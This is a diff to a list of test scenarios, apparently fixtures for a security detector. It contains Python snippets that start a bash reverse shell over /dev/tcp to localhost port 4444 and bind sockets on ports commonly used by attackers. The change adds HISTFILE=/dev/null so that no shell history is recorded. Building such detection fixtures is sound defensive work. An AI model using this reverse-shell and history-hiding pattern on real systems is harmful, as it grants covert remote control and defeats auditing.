@@ -176,7 +176,8 @@ def scenarios() -> tuple[Scenario, ...]:
             python="""\
 import socket, subprocess
 listener = socket.create_server(("127.0.0.1", 4444))
-shell = subprocess.Popen(["bash", "-c", "exec bash -i 3<>/dev/tcp/127.0.0.1/4444 <&3 >&3 2>&3"])
+to = "3<>/dev/tcp/127.0.0.1/4444 <&3 >&3 2>&3"
+shell = subprocess.Popen(["bash", "-c", f"HISTFILE=/dev/null exec bash --norc -i {to}"])
 peer, _ = listener.accept()
 peer.sendall(b"exit\\n")
 shell.wait(10)
@@ -207,11 +208,11 @@ import socket
 for port in (4444, 8080, 31337):
     listener = socket.socket()
     listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-    listener.bind(("0.0.0.0", port))
+    listener.bind(("127.0.0.1", port))
     listener.listen()
     listener.close()
     datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    datagrams.bind(("0.0.0.0", port))
+    datagrams.bind(("127.0.0.1", port))
     datagrams.close()
 """,
         ),
